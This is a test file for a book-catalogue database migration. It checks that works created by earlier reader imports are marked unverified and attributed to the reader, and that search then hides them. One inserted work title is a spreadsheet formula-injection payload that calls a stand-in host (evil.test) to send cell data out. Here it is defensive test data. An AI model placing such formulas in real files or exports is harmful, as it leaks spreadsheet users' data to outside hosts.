// Migration 0115 on rows as earlier imports stored them: the works and editions an import row reports
// 'created' become their reader's, unverified; works rows merely matched, the seed and Open Library's stay
// verified, with their provenance.
import { readFile } from 'node:fs/promises';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { sampleCatalogue } from '../../../tests/fixtures/sample-catalogue';
import { createTestApp } from '../../../tests/support/test-app';
import type { TestApp } from '../../../tests/support/test-app';
import { createTestUser } from '../../../tests/support/test-users';

let t: TestApp;
beforeAll(async () => {
  t = await createTestApp({ seed: sampleCatalogue });
});
afterAll(() => t.close());

const migration = () =>
  readFile(new URL('../../db/migrations/0115_work_provenance.sql', import.meta.url), 'utf8');

describe('migration 0115', () => {
  it("marks earlier imports' created works unverified, their reader's, and nothing else", async () => {
    const db = t.deps.db;
    const reader = await createTestUser(t);
    // Back to the tables as they were before 0115, without the later triggers on their columns (0190's
    // included). One statement string, so one transaction: on PostgreSQL a
    // job of the running test app (such as Trending's, which reads works and editions) can deadlock with it, and then
    // PostgreSQL undoes all of it and it is simply run again.
    const rewind = `drop trigger works_provenance on public.works;
                    drop trigger editions_provenance on public.editions;
                    drop trigger works_search_visibility on public.works;
                    drop trigger works_verified_popular_reads on public.works;
                    alter table public.works drop column provenance, drop column verified, drop column created_by;
                    alter table public.editions drop column provenance, drop column created_by;`;
    for (let attempt = 1; ; attempt++) {
      try {
        await db.exec(rewind);
        break;
      } catch (error) {
        if (attempt === 5 || (error as { code?: string }).code !== '40P01') throw error;
      }
    }

    const [seeded] = await db.query<{ id: string; edition_id: string }>(
      `select w.id, w.primary_edition_id as edition_id from public.works w order by w.title limit 1`,
    );
    const [fromOpenLibrary] = await db.query<{ id: string }>(
      `insert into public.works (title, ol_key) values ('From Open Library', '/works/OL1W') returning id`,
    );
    const [created] = await db.query<{ work_id: string; edition_id: string }>(
      `with w as (insert into public.works (title) values ('=HYPERLINK("http://evil.test/?"&A1,"click")')
                  returning id)
       insert into public.editions (work_id, title) select id, 'x' from w returning work_id, id as edition_id`,
    );
    const [imp] = await db.query<{ id: string }>(
      `insert into public.imports (user_id, file_name, format, state) values ($1, 'a.csv', 'goodreads', 'done')
       returning id`,
      [reader.id],
    );
    await db.query(
      `insert into public.import_rows (import_id, row, source_key, title, record, outcome, reason, work_id,
                                       edition_id)
       values ($1, 1, 'k1', 't', '{}', 'created', 'Added to the catalogue from the file', $2, $3),
              ($1, 2, 'k2', 't', '{}', 'matched', 'ISBN-13 in the catalogue', $4, $5)`,
      [imp!.id, created!.work_id, created!.edition_id, seeded!.id, seeded!.edition_id],
    );
    await db.query(
      `insert into public.import_changes (import_id, kind, ref) values ($1, 'work', $2), ($1, 'edition', $3)`,
      [imp!.id, { id: created!.work_id }, { id: created!.edition_id }],
    );

    await db.exec(await migration());

    const works = await db.query<{
      id: string;
      provenance: string;
      verified: boolean;
      created_by: string | null;
    }>('select id, provenance, verified, created_by from public.works');
    const work = (id: string) => works.find((w) => w.id === id);
    expect(work(created!.work_id)).toMatchObject({
      provenance: 'reader',
      verified: false,
      created_by: reader.id,
    });
    expect(work(seeded!.id)).toMatchObject({ provenance: 'operator', verified: true, created_by: null });
    expect(work(fromOpenLibrary!.id)).toMatchObject({ provenance: 'openlibrary', verified: true });
    expect(works.filter((w) => !w.verified).map((w) => w.id)).toEqual([created!.work_id]);
    const [edition] = await db.query<{ provenance: string; created_by: string }>(
      'select provenance, created_by from public.editions where id = $1',
      [created!.edition_id],
    );
    expect(edition).toEqual({ provenance: 'reader', created_by: reader.id });
    // What it hid is hidden: search does not find it.
    const found = await t.sf('search-works', { query: 'hyperlink evil' });
    expect(found.body.results).toEqual([]);
  });
});
